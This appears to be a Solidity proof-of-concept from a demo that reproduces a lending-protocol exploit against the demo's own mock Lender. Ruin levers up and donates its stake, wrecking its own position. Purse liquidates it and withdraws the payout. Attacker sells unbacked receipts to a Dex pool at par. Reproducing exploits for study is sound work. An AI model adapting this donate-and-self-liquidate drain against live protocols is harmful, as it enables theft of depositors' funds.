// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";
import {Dex} from "./Dex.sol";
import {Lender} from "./Lender.sol";

/// The account that ruins itself, to be liquidated by its accomplice.
contract Ruin {
    function run(Lender lender, uint256 stake) external {
        lender.asset().approve(address(lender), stake);
        lender.deposit(stake);
        lender.lever(stake * 19);
        lender.donate(stake);
    }
}

/// The demo's attacker: uses the lender's flaw on the demo's own chain, one bite a transaction. Its stake is a plain
/// balance where the real one was a flash loan.
contract Attacker {
    Lender private immutable lender;
    Dex private immutable dex;
    IERC20 private immutable asset;
    address private immutable owner;

    constructor(Lender lender_, Dex dex_) {
        lender = lender_;
        dex = dex_;
        asset = lender_.asset();
        owner = msg.sender;
        lender_.approve(address(dex_), type(uint256).max);
    }

    /// Takes `payout` of the asset out of the lender for a stake of `stake`, and keeps `kept` receipts nothing stands behind.
    function drain(uint256 stake, uint256 payout, uint256 kept) external {
        require(msg.sender == owner);
        Ruin ruin = new Ruin();
        asset.transfer(address(ruin), stake);
        ruin.run(lender, stake);
        Purse purse = new Purse();
        purse.run(lender, address(ruin), payout, kept);
    }

    /// Sells worthless receipts to the pool at par.
    function dump(uint256 amount) external {
        require(msg.sender == owner);
        dex.sellReceipts(amount);
    }
}

/// The accomplice: liquidates, hands back what is free, and is left with the debt that will never be paid.
contract Purse {
    function run(Lender lender, address ruined, uint256 payout, uint256 kept) external {
        lender.liquidate(ruined);
        lender.withdraw(payout);
        lender.asset().transfer(msg.sender, payout);
        lender.transfer(msg.sender, kept);
    }
}
